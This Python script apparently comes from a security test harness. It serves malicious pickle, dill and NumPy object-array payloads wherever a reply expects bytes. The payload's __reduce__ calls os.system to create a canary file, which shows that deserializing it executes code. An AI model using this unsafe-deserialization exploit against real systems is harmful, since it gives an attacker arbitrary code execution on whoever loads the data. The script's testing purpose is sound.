"""Sends pickles, dill, npy files with objects and marshalled code wherever bytes may stand.

Tools: link
"""

# %%
import pickle


class Run:
    def __reduce__(self):
        return (os.system, ("touch /tmp/@TOKEN@ @COURSE@/@TOKEN@",))


pickled = pickle.dumps(Run())
array = b"\x93NUMPY\x01\x00F\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(80) + pickled
kinds = iter(["bytes", "pickle", "object", "npz", "reduce", "arrow", "torch", "_class__", "value", "array"] * 3)


def make(header, buffers):
    kind = next(kinds)
    tree = {"$": kind, "buffer": 0, "dtype": "O", "shape": [1], "v": pickled.hex(), "items": [], "module": "os"}
    write({"id": header["id"], "ok": True, "value": tree}, [pickled if kind != "array" else array])


answer_with(make)
